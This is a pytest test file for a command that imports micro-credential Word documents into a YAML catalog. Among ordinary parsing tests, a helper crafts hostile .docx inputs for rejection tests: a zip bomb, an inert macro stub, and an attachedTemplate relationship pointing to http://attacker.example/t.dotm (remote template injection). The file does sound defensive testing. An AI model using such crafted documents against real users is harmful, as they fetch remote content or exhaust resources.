"""`mcauthor import docx`: Word documents in Digital Promise's template, in the layouts
issuers really use, each built by the test from its spec (nothing binary is committed).

The three layouts follow how published micro-credentials are laid out (Word heading
styles with components as sub-headings; a Google Doc with bold paragraphs for headings,
"Method", numbered "Title: body" components and the rubric's levels as rows; NEA's
parts, each with its own Passing / Not Yet table and no "Submission Guidelines"). Their
text is our own: the published texts may not be copied (see the README)."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
import yaml

from mcauthor.lint import gather, lint

from conftest import copy_sample, invoke, make_docx, one_line_error

COMPETENCY = (
    "The educator plans and asks sequences of questions that move students from recalling "
    "facts to explaining and justifying their thinking."
)
STATEMENT = (
    "The educator plans a question sequence for a lesson, asks it with wait time, and uses "
    "students' answers to decide the next question."
)
CITATION = (
    "Walsh, J. A., & Sattes, B. D. (2016). Quality questioning: Research-based practice to "
    "engage every learner (2nd ed.). Corwin. https://doi.org/10.4135/9781483395203"
)
CITATION_2 = (
    "Rowe, M. B. (1986). Wait time: Slowing down may be a way of speeding up! "
    "Journal of Teacher Education, 37(1), 43–50."
)

SPECS = Path(__file__).parent / "import_docs"


def _spec(name: str) -> list[list[Any]]:
    blocks: list[list[Any]] = yaml.safe_load((SPECS / f"{name}.yaml").read_text("utf-8"))["blocks"]
    return blocks


WORD_HEADINGS = _spec("word-headings")
GOOGLE_DOC = _spec("google-doc")
NEA_PARTS = _spec("nea-parts")


@pytest.fixture
def catalog(tmp_path: Path) -> Path:
    return copy_sample(tmp_path / "catalog")


def _imported(catalog: Path, path: Path) -> dict[str, Any]:
    done = invoke("import", "docx", path, "--catalog", catalog)
    assert done.exit_code == 0, done.output
    (written,) = [line.strip() for line in done.stdout.splitlines() if line.startswith("  cred")]
    return yaml.safe_load((catalog / written).read_text("utf-8"))  # type: ignore[no-any-return]


def _lint_codes(catalog: Path, ident: str) -> list[str]:
    result = lint(catalog)
    return [d.code for d in result.diagnostics if d.path == f"credentials/{ident}.yaml"]


def test_word_heading_styles_with_components_as_sub_headings(catalog: Path, tmp_path: Path) -> None:
    data = _imported(catalog, make_docx(WORD_HEADINGS, tmp_path / "questioning.docx"))
    assert data["id"] == "questioning-for-deeper-thinking"
    assert data["competency"] == COMPETENCY
    method = data["key_method"]
    assert method["statement"] == STATEMENT
    assert [c["title"] for c in method["components"]] == [
        "Plan the sequence", "Ask with wait time", "Decide the next question",
    ]  # fmt: skip
    body = method["components"][1]["body"].rstrip()
    assert body.endswith("\n- Count silently; do not call on the first hand.")
    walsh, rowe = data["research"]
    assert walsh["authors"] == ["Walsh, J. A.", "Sattes, B. D."] and walsh["year"] == 2016
    assert walsh["doi"] == "10.4135/9781483395203" and walsh["source"] == "Corwin"
    assert rowe["key"] == "rowe-1986" and rowe["source"].startswith("Journal of Teacher")
    assert method["research"] == [walsh["key"], rowe["key"]]
    assert data["x-imported"]["rationale"].startswith("Questions that ask students")
    assert data["resources"] == [
        {"title": "Question stems for each level of thinking", "url": "https://example.org/stems"}
    ]
    overview, artifacts, reflection = data["evidence"]
    assert overview["kind"] == "overview" and overview["title"].startswith("Part 1.")
    assert [p.get("words") for p in overview["prompts"]] == [None, {"min": 100, "max": 200}]
    assert artifacts["kind"] == "artifact" and len(artifacts["prompts"]) == 2
    assert reflection["prompts"][0]["words"] == {"min": 400, "max": 600}
    rubric = data["rubric"]
    assert rubric["levels"] == [{"id": "passing", "label": "Passing", "passing": True},
                                {"id": "not-yet", "label": "Not Yet"}]  # fmt: skip
    assert [c["title"] for c in rubric["criteria"]] == [
        "Overview",
        "Question sequence",
        "Reflection",
    ]
    # Only what the document lacks: hours, a stack, a locator for the 1986 article.
    assert sorted(_lint_codes(catalog, data["id"])) == ["MC206", "MC508", "MC509"]
    assert [c["evidence"] for c in rubric["criteria"]] == ["overview", "artifacts", "reflection"]


def test_a_google_doc_with_bold_headings_and_levels_as_rows(catalog: Path, tmp_path: Path) -> None:
    data = _imported(catalog, make_docx(GOOGLE_DOC, tmp_path / "feedback.docx"))
    assert data["title"] == "Peer Feedback Protocols"
    assert data["key_method"]["statement"].startswith("The educator models a feedback protocol")
    components = data["key_method"]["components"]
    assert [c["title"] for c in components] == ["Model the protocol", "Practise in pairs", "Revise"]
    assert data["research"][0]["doi"] == "10.1016/j.learninstruc.2009.08.007"
    assert data["resources"][0]["url"] == "https://example.org/cards"
    assert data["resources"][0]["title"] == "Protocol cards"
    overview = data["evidence"][0]
    assert overview["prompts"][0] == {
        "text": "Describe the class and the writing task.",
        "words": {"max": 300},
    }
    rubric = data["rubric"]
    assert [(lv["label"], lv.get("passing", False)) for lv in rubric["levels"]] == [
        ("Exemplary", True), ("Proficient", True), ("Developing", False),
    ]  # fmt: skip
    assert [c["title"] for c in rubric["criteria"]] == [
        "Part 1: Overview", "Part 2: Evidence", "Part 3: Reflection",
    ]  # fmt: skip
    text = (catalog / "credentials" / "peer-feedback-protocols.yaml").read_text("utf-8")
    assert "# imported: passing levels inferred from their names: Exemplary, Proficient" in text


def test_parts_with_their_own_rubrics_and_an_unknown_section(catalog: Path, tmp_path: Path) -> None:
    data = _imported(catalog, make_docx(NEA_PARTS, tmp_path / "norms.docx"))
    assert [c["title"] for c in data["key_method"]["components"]] == ["Step 1", "Step 2"]
    overview, _ = data["evidence"]
    assert all(p["words"] == {"min": 200, "max": 400} for p in overview["prompts"])
    rubric = data["rubric"]
    assert [(c["id"], c.get("evidence")) for c in rubric["criteria"]] == [
        ("context", "overview"), ("norms-chart", "artifacts"),
    ]  # fmt: skip
    assert data["x-imported"]["Terms of Use"] == "Earners keep the rights to their submissions."
    assert "MC406" not in _lint_codes(catalog, data["id"])


def test_a_scale_of_the_catalog_is_used_when_the_levels_match(
    catalog: Path, tmp_path: Path
) -> None:
    table = [["Criterion", "Demonstrated (passing)", "Progressing", "Not met"],
             ["Context", "Clear.", "Partly clear.", "Missing."]]  # fmt: skip
    spec = [["title", "Matching Scales"], ["heading1", "Competency"], ["para", COMPETENCY],
            ["heading1", "Rubric"], ["table", table]]  # fmt: skip
    data = _imported(catalog, make_docx(spec, tmp_path / "scale.docx"))
    assert data["rubric"]["scale"] == "demonstrated"
    assert data["rubric"]["criteria"][0]["descriptors"] == {
        "demonstrated": "Clear.", "progressing": "Partly clear.", "not-met": "Missing.",
    }  # fmt: skip


def test_a_hundred_documents_import_in_one_run(catalog: Path, tmp_path: Path) -> None:
    folder = tmp_path / "docs"
    folder.mkdir()
    for number in range(100):
        spec = [["title", f"Questioning Round {number}"], *WORD_HEADINGS[1:]]
        make_docx(spec, folder / f"mc-{number:03}.docx")
    done = invoke("import", "docx", folder, "-c", catalog)
    assert done.exit_code == 0, done.output
    assert "Wrote 100 files" in done.stdout
    loaded, _, _ = gather(catalog, cache=False)
    assert len([c for c in loaded.credentials if c.id.startswith("questioning-round")]) == 100


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _hostile(kind: str, tmp_path: Path) -> bytes:
    base = _members(make_docx(WORD_HEADINGS[:5], tmp_path / "base.docx"))
    if kind == "text":
        return b"Competency\nThe educator ..."
    if kind == "old-word":
        return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    if kind == "bomb":
        return _zip({**base, "word/media/big.bin": b"\0" * 20_000_000})
    if kind == "macros":
        return _zip({**base, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})
    if kind == "external":
        rels = base["word/_rels/document.xml.rels"].replace(
            b"</Relationships>",
            b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
            b'TargetMode="External"/></Relationships>',
        )
        return _zip({**base, "word/_rels/document.xml.rels": rels})
    if kind == "long":
        xml = base["word/document.xml"]
        # Text that packs as real text does (a repeated line would pack like a zip bomb).
        pages = b"".join(
            b"<w:p><w:r><w:t>Line %d of %x, a very long document.</w:t></w:r></w:p>"
            % (i, i * 2654435761 % 2**32)
            for i in range(25_000)
        )
        return _zip({**base, "word/document.xml": xml.replace(b"<w:body>", b"<w:body>" + pages)})
    if kind == "broken":
        return _zip({**base, "word/document.xml": b"<w:document><w:body><w:p>"})
    if kind == "no-headings":
        return make_docx(
            [["para", COMPETENCY], ["para", STATEMENT]], tmp_path / "p.docx"
        ).read_bytes()
    raise AssertionError(kind)


@pytest.mark.parametrize(
    ("kind", "message"),
    [
        ("text", "not a Word document (a .docx file is a zip archive)"),
        ("old-word", "an old Word document (.doc)"),
        ("bomb", "a zip bomb?"),
        ("macros", "the document holds macros"),
        ("external", "links to outside content (attachedTemplate at http://attacker.example"),
        ("long", "25,0"),
        ("broken", "a damaged Word document"),
        ("no-headings", "none of the template's sections found"),
    ],
)
def test_a_document_that_cannot_be_imported_is_one_line(
    catalog: Path, tmp_path: Path, kind: str, message: str
) -> None:
    path = tmp_path / "input.docx"
    path.write_bytes(_hostile(kind, tmp_path))
    before = sorted(p.name for p in (catalog / "credentials").iterdir())
    line = one_line_error(invoke("import", "docx", path, "-c", catalog))
    assert message in line and str(path) in line
    assert sorted(p.name for p in (catalog / "credentials").iterdir()) == before
